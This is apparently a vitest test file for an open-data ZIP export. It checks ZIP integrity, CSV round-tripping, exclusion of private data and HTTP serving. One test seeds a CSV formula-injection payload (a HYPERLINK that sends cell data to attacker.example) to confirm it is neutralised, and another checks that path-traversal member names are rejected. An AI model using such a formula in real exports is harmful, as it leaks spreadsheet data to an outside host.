/**
 * Open data (issue 6 §8): the ZIP of every public record as JSON and CSV. Read back three ways —
 * by the system's unzip (-t) and Python's zipfile where installed, and by a reader written here
 * from the format — and checked for content: every kind in both forms, CSV that parses back to
 * the JSON's values, and no private value (real name, contact, evidence, undisclosed source).
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32, inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { initInstance, openInstance } from '../../src/services/instance.js';
import type { Ctx } from '../../src/services/context.js';
import { addMember } from '../../src/services/members.js';
import { recordObservation } from '../../src/services/observations.js';
import { listSupport, recordTransaction } from '../../src/services/support.js';
import { buildOpenData, OPEN_DATA_KINDS } from '../../src/publish/open-data.js';
import { writeZip } from '../../src/publish/zip.js';
import { parseCsv } from '../../src/domain/csv.js';
import { createApp } from '../../src/http/app.js';
import { scanForPrivateValues } from '../support/privacy-scan.js';

const LOCAL = { kind: 'local' } as const;
const PRIVATE = {
  realName: 'Ximena Quispe-Ñahui',
  contact: 'ximena.private@example.org',
  evidence: 'Sealed minutes PRIVATE-EVIDENCE-7731',
  source: 'Anonymous donor PRIVATE-SOURCE-4412',
};

/** A ZIP read from its central directory, each member inflated and its CRC-32 checked. */
function readZip(zip: Buffer): Map<string, Buffer> {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  expect(end).toBe(zip.length - 22);
  const count = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  const out = new Map<string, Buffer>();
  for (let i = 0; i < count; i++) {
    expect(zip.readUInt32LE(at)).toBe(0x02014b50);
    const method = zip.readUInt16LE(at + 10);
    const crc = zip.readUInt32LE(at + 16);
    const packed = zip.readUInt32LE(at + 20);
    const size = zip.readUInt32LE(at + 24);
    const nameLen = zip.readUInt16LE(at + 28);
    const extra = zip.readUInt16LE(at + 30);
    const comment = zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.subarray(at + 46, at + 46 + nameLen).toString('utf8');
    expect(zip.readUInt32LE(local)).toBe(0x04034b50);
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const raw = zip.subarray(start, start + packed);
    const data = method === 8 ? inflateRawSync(raw) : Buffer.from(raw);
    expect([0, 8]).toContain(method);
    expect(data.length, name).toBe(size);
    expect(crc32(data), name).toBe(crc);
    out.set(name, data);
    at += 46 + nameLen + extra + comment;
  }
  return out;
}

const hasUnzip = spawnSync('unzip', ['-v']).status === 0;
const hasPython = spawnSync('python3', ['-c', 'import zipfile']).status === 0;

describe('the ZIP writer', () => {
  it('writes what unzip, Python and a reader of the format all read back byte for byte', () => {
    const members = [
      { name: 'empty.txt', data: new Uint8Array(0) },
      { name: 'noise.bin', data: randomBytes(5000) }, // incompressible: stored
      { name: 'dir/texte-éàü-العربية.csv', data: Buffer.from('a,b\r\n'.repeat(1000), 'utf8') }, // deflated, UTF-8 name
    ];
    const zip = writeZip(members, new Date('2026-11-25T10:20:30Z'));
    const back = readZip(zip);
    expect([...back.keys()]).toEqual(members.map((m) => m.name));
    for (const m of members) expect(back.get(m.name)!.equals(Buffer.from(m.data))).toBe(true);
    expect(zip.length).toBeLessThan(5000 + 5000); // the repetitive member was compressed
    expect(writeZip(members, new Date('2026-11-25T10:20:30Z')).equals(zip)).toBe(true); // deterministic

    const dir = mkdtempSync(path.join(tmpdir(), 'daylight-zip-'));
    try {
      const file = path.join(dir, 'test.zip');
      writeFileSync(file, zip);
      if (hasUnzip) {
        const r = spawnSync('unzip', ['-t', file], { encoding: 'utf8' });
        expect(r.stdout).toContain('No errors detected');
        expect(r.status).toBe(0);
      }
      if (hasPython) {
        const py = 'import sys,zipfile,hashlib\nz=zipfile.ZipFile(sys.argv[1])\nassert z.testzip() is None\nfor i in z.infolist(): print(i.filename, len(z.read(i)), i.date_time)';
        const r = spawnSync('python3', ['-c', py, file], { encoding: 'utf8' });
        expect(r.stderr).toBe('');
        expect(r.stdout.trim().split('\n')).toEqual([
          'empty.txt 0 (2026, 11, 25, 10, 20, 30)',
          'noise.bin 5000 (2026, 11, 25, 10, 20, 30)',
          'dir/texte-éàü-العربية.csv 5000 (2026, 11, 25, 10, 20, 30)',
        ]);
      }
      if (!hasUnzip && !hasPython) console.warn('neither unzip nor python3 here: the ZIP was read back by the test reader only');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses a name that would escape the directory it is unpacked into', () => {
    expect(() => writeZip([{ name: '../x', data: new Uint8Array(1) }], new Date())).toThrow(/bad ZIP member name/);
    expect(() => writeZip([{ name: '/etc/x', data: new Uint8Array(1) }], new Date())).toThrow(/bad ZIP member name/);
  });
});

/** What a spreadsheet would run if a CSV cell began with it. */
const FORMULA_SOURCE = '=HYPERLINK("https://attacker.example/?d="&A1,"Roster")';

describe('the open-data ZIP of the demo', () => {
  let ctx: Ctx & { close(): Promise<void> };
  let root: string;
  let members: Map<string, Buffer>;
  let zip: Buffer;

  beforeAll(async () => {
    root = mkdtempSync(path.join(tmpdir(), 'daylight-open-data-'));
    const now = new Date();
    let clock = now;
    await initInstance({ dataDir: root, origin: 'open-data.test/daylight', now: () => clock });
    ctx = await openInstance({ dataDir: root, now: () => clock });
    const { seedDemo } = await import('../../src/demo/seed.js');
    const { alliance } = await seedDemo(ctx, (d) => (clock = d), now);
    clock = now;
    const day = now.toISOString().slice(0, 10);
    await addMember(ctx, LOCAL, { organization: 'sindicato-sur', pseudonym: 'Calandria', realName: PRIVATE.realName, contact: PRIVATE.contact });
    await recordObservation(ctx, LOCAL, { alliance, party: 'sindicato-sur', indicator: 'executive-authority-holders', at: day, value: '7', source: 'Roster', evidence: PRIVATE.evidence });
    await recordObservation(ctx, LOCAL, { alliance, party: 'sindicato-sur', indicator: 'executive-authority-holders', at: day, value: '6', source: FORMULA_SOURCE });
    const active = (await listSupport(ctx, alliance)).commitments.find((c) => c.status === 'active')!;
    await recordTransaction(ctx, LOCAL, { alliance, commitment: active.id, occurredOn: day, amount: '12.34', currency: 'EUR', sourceDisclosed: false, source: PRIVATE.source, receipt: false });
    const built = await buildOpenData(ctx);
    zip = built!.zip;
    members = readZip(zip);
  }, 120_000);

  afterAll(async () => {
    await ctx?.close();
    if (root) rmSync(root, { recursive: true, force: true });
  });

  const json = (kind: string) => JSON.parse(members.get(`json/${kind}.json`)!.toString('utf8')) as Record<string, unknown>[];

  it('holds every kind as JSON and as CSV, with the checkpoint it was cut at', () => {
    for (const { kind } of OPEN_DATA_KINDS) {
      expect(members.has(`json/${kind}.json`), kind).toBe(true);
      expect(members.has(`csv/${kind}.csv`), kind).toBe(true);
    }
    expect(members.get('checkpoint')!.toString('utf8')).toMatch(/^open-data\.test\/daylight\n\d+\n/);
    for (const kind of ['organizations', 'alliances', 'covenant-versions', 'signatures', 'cycles', 'scorecards', 'feedback', 'observations', 'standing-transitions', 'proposals', 'votes', 'support-commitments', 'support-transactions', 'local-actions', 'lessons']) {
      expect(json(kind).length, kind).toBeGreaterThan(0);
    }
    expect(json('other')).toEqual([]);
  });

  it('writes CSV that parses back (RFC 4180) to the JSON rows, cell by cell', () => {
    for (const { kind } of OPEN_DATA_KINDS) {
      const text = members.get(`csv/${kind}.csv`)!.toString('utf8');
      expect(text.endsWith('\r\n'), kind).toBe(true);
      const [header, ...rows] = parseCsv(text).map((r) => r.fields);
      expect(header!.slice(0, 3)).toEqual(['index', 'type', 'at']);
      const list = json(kind);
      expect(rows.length, kind).toBe(list.length);
      rows.forEach((fields, i) => {
        expect(fields.length).toBe(header!.length);
        header!.forEach((col, k) => {
          const v = list[i]![col];
          const want = v === undefined || v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : typeof v === 'string' && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v);
          expect(fields[k], `${kind}[${i}].${col}`).toBe(want);
        });
      });
    }
    // a field with commas, quotes or line breaks survives: the covenant drafts' rationales, feedback texts
    expect(json('feedback').every((f) => typeof f.text === 'string' && f.text !== '')).toBe(true);
    // a text a spreadsheet would run (OWASP CSV injection) is text in the CSV, exact in the JSON
    expect(json('observations').find((o) => o.source === FORMULA_SOURCE)).toBeDefined();
    const csv = members.get('csv/observations.csv')!.toString('utf8');
    expect(csv).toContain(`"'${FORMULA_SOURCE.replaceAll('"', '""')}"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('keeps out every private value, and says an undisclosed source was undisclosed', () => {
    const dir = path.join(root, 'unpacked');
    for (const [name, data] of members) {
      mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      writeFileSync(path.join(dir, name), data);
    }
    expect(scanForPrivateValues(dir, Object.values(PRIVATE))).toEqual([]);
    const undisclosed = json('support-transactions').filter((t) => t.sourceDisclosed === false);
    expect(undisclosed.some((t) => t.amount === '12.34' && t.currency === 'EUR')).toBe(true); // ours, recorded last
    for (const t of undisclosed) expect(t).not.toHaveProperty('source');
    const ours = json('observations').find((o) => o.source === 'Roster')!;
    expect(ours).toMatchObject({ party: 'sindicato-sur', value: '7' });
    expect(ours).not.toHaveProperty('evidence');
    for (const o of json('organizations')) {
      expect(Object.keys(o)).not.toEqual(expect.arrayContaining(['realName']));
      expect(Object.keys(o)).not.toEqual(expect.arrayContaining(['contact']));
    }
  });

  it('is served at its stable URL, the same bytes, revalidated by ETag', async () => {
    const app = createApp(ctx);
    const res = await app.request('/open-data/daylight-open-data.zip');
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Type')).toBe('application/zip');
    expect(Buffer.from(await res.arrayBuffer()).equals(zip)).toBe(true);
    const etag = res.headers.get('ETag')!;
    const again = await app.request('/open-data/daylight-open-data.zip', { headers: { 'If-None-Match': etag } });
    expect(again.status).toBe(304);
    // and every page names it and its own JSON twin
    const page = await (await app.request('/alliances/demo/health')).text();
    expect(page).toContain('href="/open-data/daylight-open-data.zip"');
    expect(page).toContain('<link rel="alternate" type="application/json" href="/alliances/demo/health.json"/>');
    const twin = await app.request('/alliances/demo/health.json');
    expect(twin.status).toBe(200);
    expect(await twin.json()).toEqual(await (await app.request('/api/v1/alliances/demo/health')).json());
    expect((await app.request('/alliances/demo.json')).status).toBe(200);
    expect((await app.request('/alliances/nope.json')).status).toBe(404);
  });
});
